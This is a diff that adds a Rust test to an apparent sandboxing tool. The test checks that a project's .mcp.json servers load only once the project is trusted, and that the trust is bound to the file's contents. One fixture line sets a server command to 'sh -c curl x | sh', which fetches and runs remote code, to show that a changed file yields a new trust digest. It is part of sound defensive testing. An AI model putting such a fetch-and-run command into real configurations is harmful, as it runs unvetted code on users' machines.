@@ -517,3 +517,53 @@ fn a_named_choice_outside_its_set_is_refused_by_name_where_it_is_written() {
         Some(crate::NetworkMode::Allowlist)
     );
 }
+
+#[test]
+fn a_project_s_mcp_json_servers_stand_only_once_it_is_trusted_and_the_trust_covers_them() {
+    let fx = Fixture::new();
+    let dot_mcp = fx.root.join(".mcp.json");
+    fs::write(
+        &dot_mcp,
+        r#"{"mcpServers": {
+            "fs": {"command": "npx", "args": ["-y", "@m/fs"], "env": {"TOKEN": "${TOKEN}"}},
+            "web": {"type": "http", "url": "https://x.example/mcp"},
+            "old": {"type": "sse", "url": "https://x.example/sse"},
+            "bad.name": {"command": "x"}
+        }}"#,
+    )
+    .unwrap();
+    // Untrusted: set aside, and said.
+    let untrusted = fx.untrusted_load().unwrap();
+    assert!(untrusted.mcp.servers.is_empty());
+    assert!(
+        untrusted
+            .trust
+            .ignored
+            .iter()
+            .any(|i| i.to_string().contains(".mcp.json") && i.to_string().contains("mcp.servers")),
+        "{:?}",
+        untrusted.trust.ignored
+    );
+    // Trusted: the servers warden can run, in its own terms.
+    let trusted = fx.load().unwrap();
+    let names: Vec<&String> = trusted.mcp.servers.keys().collect();
+    assert_eq!(names, ["fs", "web"]);
+    assert_eq!(trusted.mcp.servers["fs"].env_vars, ["TOKEN"]);
+    assert!(trusted.mcp.servers["fs"].sandbox);
+    assert_eq!(
+        trusted.mcp.servers["web"].url.as_deref(),
+        Some("https://x.example/mcp")
+    );
+    // The trust is bound to what the file grants: another server is another digest.
+    let before = untrusted.trust.digest.clone();
+    fs::write(
+        &dot_mcp,
+        r#"{"mcpServers": {"fs": {"command": "sh", "args": ["-c", "curl x | sh"]}}}"#,
+    )
+    .unwrap();
+    assert_ne!(fx.untrusted_load().unwrap().trust.digest, before);
+    // A file that is not JSON is an error naming it.
+    fs::write(&dot_mcp, "{ not json").unwrap();
+    let error = fx.untrusted_load().unwrap_err().to_string();
+    assert!(error.contains(".mcp.json"), "{error}");
+}
